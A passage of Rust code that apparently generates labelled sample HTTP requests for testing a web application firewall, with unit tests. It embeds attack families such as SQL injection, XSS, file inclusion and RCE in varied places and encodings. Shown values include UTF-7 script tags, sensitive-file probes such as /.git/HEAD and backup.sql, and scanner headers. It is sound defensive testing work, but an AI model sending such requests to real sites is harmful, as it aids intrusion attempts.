    let family = rng.pick(&[
        "sqli", "sqli", "sqli", "xss", "xss", "xss", "lfi", "lfi", "rfi", "rce", "rce", "rcewin",
        "php", "php", "java", "java", "node", "session", "protocol", "protocol", "scanner", "hdr",
    ]);
    let host = rng.pick(HOSTS).to_string();
    let mut headers = base_headers(rng, &host);
    let mut method = "GET".to_string();
    let mut target = benign_path(rng);
    let mut body = Vec::new();

    if family == "scanner" {
        headers.retain(|(k, _)| k != "User-Agent");
        headers.insert(1, ("User-Agent".into(), rng.pick(SCANNER_UAS).into()));
        if rng.chance(30) {
            target = rng
                .pick(&[
                    "/nessustest",
                    "/acunetix-wvs-test-for-some-inexistent-file",
                    "/wp-login.php",
                    "/phpmyadmin/index.php",
                    "/.git/HEAD",
                    "/admin/config.bak",
                ])
                .into();
        }
        return SampleRequest {
            id: format!("{i:05}-scanner-ua"),
            method,
            target,
            headers,
            body,
        };
    }
    if family == "hdr" {
        // protocol enforcement through headers: each variant breaks one expectation
        let kind = match rng.below(26) {
            22 => {
                headers.push(("Content-Type".into(), "text/plain".into()));
                headers.push(("Content-Type".into(), "application/json".into()));
                method = "POST".into();
                body = b"{}".to_vec();
                "dupctype"
            }
            23 => {
                method = "POST".into();
                let ct = rng.pick(&[
                    "application/x-www-form-urlencoded; charset=utf-8; charset=latin1",
                    "text/plain; application/json",
                    "application/octet-stream, text/xml",
                ]);
                headers.push(("Content-Type".into(), ct.into()));
                body = b"a=1".to_vec();
                "ctmulti"
            }
            24 => {
                headers.push(("Range".into(), "bytes=0-99".into()));
                target = "/docs/manual.pdf".into();
                "pdfrange"
            }
            25 => {
                headers.retain(|(k, _)| k != "Accept");
                headers.push(("Accept".into(), String::new()));
                "emptyaccept"
            }
            12 => {
                method = "POST".into();
                "nocl"
            }
            13 => {
                headers.push(("Range".into(), "bytes=100-5".into()));
                "badrange"
            }
            14 => {
                headers.retain(|(k, _)| k != "Host");
                headers.insert(0, ("Host".into(), String::new()));
                "emptyhost"
            }
            15 => {
                headers.retain(|(k, _)| k != "User-Agent");
                headers.insert(1, ("User-Agent".into(), String::new()));
                "emptyua"
            }
            16 => {
                method = "POST".into();
                headers.push(("Content-Type".into(), "text/plain;;; x=\"y\" !".into()));
                body = b"a=1".to_vec();
                "badctype"
            }
            17 => {
                target = rng
                    .pick(&["/index.php~", "/config.inc~", "/wp-config.php~/x"])
                    .into();
                "tilde"
            }
            18 => {
                method = "POST".into();
                headers.push(("Content-Type".into(), multipart_type()));
                let part = rng.pick(&[
                    "Content-Type: text/plain; charset=utf-7\r\n",
                    "Content-Transfer-Encoding: base64\r\n",
                    "Content-Type: text/plain; charset=ibm037\r\n",
                ]);
                body = format!(
                    "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"\r\n{part}\r\n\
                     PHNjcmlwdD4=\r\n--{BOUNDARY}--\r\n"
                )
                .into_bytes();
                "mppart"
            }
            19 => {
                method = "POST".into();
                headers.push(("Content-Type".into(), multipart_type()));
                body = multipart(&[("_charset_", "utf-7"), ("q", "+ADw-x+AD4-")], None);
                "mpcharset"
            }
            20 => {
                headers.push((
                    rng.pick(&[
                        "Acunetix-Product",
                        "X-Scan-Memo",
                        "Acunetix-Scanning-agreement",
                    ])
                    .into(),
                    "WVS/10.0".into(),
                ));
                "scanhdr"
            }
            21 => {
                target = format!("/search?q=%uFF1Cscript%uFF1E{}&r=a\\qb", rng.below(9));
                "fullwidth"
            }
            0 => {
                headers.push((
                    "Range".into(),
                    "bytes=0-,1-,2-,3-,4-,5-,6-,7-,8-,9-,10-".into(),
                ));
                "range"
            }
            1 => {
                headers.retain(|(k, _)| k != "Host");
                headers.insert(0, ("Host".into(), "203.0.113.9".into()));
                "iphost"
            }
            2 => {
                headers.retain(|(k, _)| k != "User-Agent");
                "noua"
            }
            3 => {
                headers.retain(|(k, _)| k != "Accept");
                "noaccept"
            }
            4 => {
                method = "POST".into();
                headers.push(("Content-Type".into(), "text/x-unknown".into()));
                body = b"a=1".to_vec();
                "ctype"
            }
            5 => {
                method = "POST".into();
                headers.push((
                    "Content-Type".into(),
                    "application/x-www-form-urlencoded; charset=utf-7".into(),
                ));
                body = b"a=%2BADw-script%2BAD4-".to_vec();
                "charset"
            }
            6 => {
                target = rng
                    .pick(&[
                        "/backup.sql",
                        "/web.config",
                        "/db.mdb",
                        "/site.bak",
                        "/app.ini",
                    ])
                    .into();
                "ext"
            }
            7 => {
                headers.push(("Proxy".into(), "http://198.51.100.3:8080".into()));
                headers.push(("Lock-Token".into(), "<opaquelocktoken:1>".into()));
                "restricted"
            }
            8 => {
                target = format!("/search?q=%zz{}&x=%", rng.below(9));
                "badenc"
            }
            9 => {
                target = "/item?id=1%00.jpg&name=a%01b".into();
                "nullbyte"
            }
            10 => {
                body = b"unexpected=body".to_vec();
                "getbody"
            }
            _ => {
                headers.push(("Connection".into(), "keep-alive, close, upgrade".into()));
                headers.push(("Max-Forwards".into(), "abc".into()));
                "misc"
            }
        };
        return SampleRequest {
            id: format!("{i:05}-hdr-{kind}"),
            method,
            target,
            headers,
            body,
        };
    }

    let payload = match family {
        "sqli" => rng.pick(SQLI),
        "xss" => rng.pick(XSS),
        "lfi" => rng.pick(LFI),
        "rfi" => rng.pick(RFI),
        "rce" => rng.pick(RCE_UNIX),
        "rcewin" => rng.pick(RCE_WIN),
        "php" => rng.pick(PHP),
        "java" => rng.pick(JAVA),
        "node" => rng.pick(NODE),
        "session" => rng.pick(SESSION),
        _ => rng.pick(PROTOCOL),
    };
    // a prefix so the payload looks like an injected value more often than a bare one
    let prefix = if rng.chance(40) {
        rng.pick(&["1", "abc", "test", "x"])
    } else {
        ""
    };
    let (text, obf) = obfuscate(rng, family, &format!("{prefix}{payload}"));
    let mut place = PLACES[rng.below(PLACES.len())];
    if family == "protocol" && matches!(place, Place::Header | Place::Cookie | Place::Path) {
        place = Place::Query; // CR/LF can only travel encoded
    }
    let param = if family == "rfi" && rng.chance(50) {
        rng.pick(&[
            "file",
            "include",
            "page",
            "template",
            "mosConfig_absolute_path",
            "_CONF[path]",
        ])
    } else if family == "session" && rng.chance(40) {
        rng.pick(&["PHPSESSID", "jsessionid", "ASPSESSIONID", "sessionid"])
    } else {
        rng.pick(PARAMS)
    };
    if family == "session" && rng.chance(50) {
        headers.retain(|(k, _)| k != "Referer");
        headers.push(("Referer".into(), "https://evil.example/landing".into()));
    }
    let mut enc = "raw";
    match place {
        Place::Path => {
            let (e, how) = url_encode(rng, &text);
            enc = how;
            // keep '/' readable in the path when only the minimum was encoded
            target = format!("/app/{e}/view");
        }
        Place::Query | Place::QueryName => {
            let (e, how) = url_encode(rng, &text);
            enc = how;
            let other = if rng.chance(50) {
                format!("&{}", benign_query(rng))
            } else {
                String::new()
            };
            target = if matches!(place, Place::Query) {
                format!("{target}?{param}={e}{other}")
            } else {
                format!("{target}?{e}=1{other}")
            };
        }
        Place::Form => {
            let (e, how) = url_encode(rng, &text);
            enc = how;
            method = "POST".into();
            headers.push((
                "Content-Type".into(),
                "application/x-www-form-urlencoded".into(),
            ));
            body = format!("user={}&{param}={e}&submit=Send", rng.pick(NAMES)).into_bytes();
        }
        Place::Json => {
            method = rng.pick(&["POST", "POST", "PUT"]).into();
            headers.push(("Content-Type".into(), "application/json".into()));
            let mut js = json_string(&text);
            if rng.chance(25) {
                // JSON-level escapes for some characters
                enc = "jsonu";
                js = js
                    .replace('<', "\\u003c")
                    .replace('\'', "\\u0027")
                    .replace('/', "\\/");
            }
            body = if rng.chance(50) {
                format!("{{\"{param}\":{js},\"page\":1}}")
            } else {
                format!("{{\"data\":{{\"items\":[{{\"{param}\":{js}}}],\"ok\":true}}}}")
            }
            .into_bytes();
            target = format!("/api/v1/{}", rng.pick(&["search", "users", "comments"]));
        }
        Place::Xml => {
            method = "POST".into();
            let ct = rng.pick(&[
                "text/xml",
                "application/xml",
                "application/soap+xml; charset=utf-8",
            ]);
            headers.push(("Content-Type".into(), ct.into()));
            let inner = if rng.chance(50) {
                enc = "cdata";
                format!("<![CDATA[{}]]>", text.replace("]]>", "]]"))
            } else {
                xml_escape(&text)
            };
            body = soap(&format!("<m:{param}>{inner}</m:{param}>")).into_bytes();
            target = "/ws/service".into();
        }
        Place::MultipartField => {
            method = "POST".into();
            headers.push(("Content-Type".into(), multipart_type()));
            body = multipart(&[("title", "x"), (param, &text)], None);
            target = "/upload".into();
        }
        Place::MultipartFilename => {
            method = "POST".into();
            headers.push(("Content-Type".into(), multipart_type()));
            let name: String = text
                .chars()
                .map(|c| {
                    if c == '"' || c == '\r' || c == '\n' {
                        '_'
                    } else {
                        c
                    }
                })
                .collect();
            let ext = rng.pick(&[".jpg", ".php", ".phtml", ".jsp", ""]);
            body = multipart(
                &[("title", "avatar")],
                Some((
                    &format!("{name}{ext}"),
                    "image/jpeg",
                    b"\xff\xd8\xff\xe0 not really",
                )),
            );
            target = "/upload".into();
        }
        Place::Cookie => {
            let v: String = text
                .chars()
                .map(|c| {
                    if c == ';' {
                        "%3B".to_string()
                    } else {
                        c.to_string()
                    }
                })
                .collect();
            headers.retain(|(k, _)| k != "Cookie");
            let name = rng.pick(&["session", "pref", param, "lang"]);
            headers.push((
                "Cookie".into(),
                header_safe(&format!("{name}={v}; theme=dark")),
            ));
        }
        Place::Header => {
            let h = rng.pick(&[
                "User-Agent",
                "Referer",
                "X-Forwarded-For",
                "X-Api-Filter",
                "Accept-Language",
            ]);
            headers.retain(|(k, _)| k != h);
            let v = if h == "Referer" {
                format!("https://{host}/p?{param}={}", url_encode(rng, &text).0)
            } else {
                header_safe(&text)
            };
            headers.push((h.into(), v));
        }
    }
    SampleRequest {
        id: format!("{i:05}-{family}-{}-{obf}-{enc}", place_name(place)),
        method,
        target,
        headers,
        body,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_half_attacks() {
        let a = generate(400, 7);
        let b = generate(400, 7);
        assert_eq!(a, b);
        assert_ne!(a, generate(400, 8));
        assert_eq!(a.iter().filter(|r| r.is_attack()).count(), 200);
        let mut ids: Vec<&str> = a.iter().map(|r| r.id.as_str()).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 400);
    }

    #[test]
    fn every_request_is_valid_http11() {
        for r in generate(3000, 1) {
            let raw = to_http(&r);
            let head_end = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
            let head = std::str::from_utf8(&raw[..head_end]).unwrap();
            let mut lines = head.split("\r\n");
            let line = lines.next().unwrap();
            let parts: Vec<&str> = line.split(' ').collect();
            assert_eq!(parts.len(), 3, "{}: {line:?}", r.id);
            assert!(parts[1].starts_with('/'), "{}", r.id);
            assert!(
                parts[1].bytes().all(|b| b > b' ' && b < 0x7f),
                "{}: {line:?}",
                r.id
            );
            let mut cl = None;
            for h in lines {
                let (k, v) = h.split_once(": ").unwrap();
                assert!(!k.is_empty() && k.bytes().all(|b| b.is_ascii_graphic() && b != b':'));
                assert!(!v.contains('\r') && !v.contains('\n'), "{}", r.id);
                if k.eq_ignore_ascii_case("content-length") {
                    cl = Some(v.parse::<usize>().unwrap());
                }
            }
            assert_eq!(cl.unwrap_or(0), raw.len() - head_end - 4, "{}", r.id);
        }
    }

    #[test]
    fn write_bin_layout() {
        let r = SampleRequest {
            id: "1".into(),
            method: "POST".into(),
            target: "/a".into(),
            headers: vec![("Host".into(), "h".into())],
            body: b"xy".to_vec(),
        };
        let path = std::env::temp_dir().join(format!("crs_sample_{}.bin", std::process::id()));
        write_bin(std::slice::from_ref(&r), &path).unwrap();
        let got = std::fs::read(&path).unwrap();
        std::fs::remove_file(&path).unwrap();
        let mut want = Vec::new();
        for f in [&b"1"[..], b"attack", b"192.0.2.1", b"POST", b"/a"] {
            want.extend_from_slice(&(f.len() as u32).to_le_bytes());
            want.extend_from_slice(f);
        }
        want.extend_from_slice(&2u32.to_le_bytes());
        for f in [&b"Host"[..], b"h", b"Content-Length", b"2", b"xy"] {
            want.extend_from_slice(&(f.len() as u32).to_le_bytes());
            want.extend_from_slice(f);
        }
        assert_eq!(got, want);
    }

    #[test]
    fn covers_families_and_places() {
        let reqs = generate(3000, 1);
        for fam in [
            "sqli", "xss", "lfi", "rfi", "rce", "rcewin", "php", "java", "node", "session",
        ] {
            for place in ["path", "query", "form", "json", "xml", "mpfield", "mpfile"] {
                let tag = format!("-{fam}-{place}-");
                assert!(reqs.iter().any(|r| r.id.contains(&tag)), "missing {tag}");
            }
        }
        assert!(reqs.iter().any(|r| r.id.contains("-scanner-")));
        assert!(reqs.iter().any(|r| r.id.contains("-protocol-query-")));
    }
}
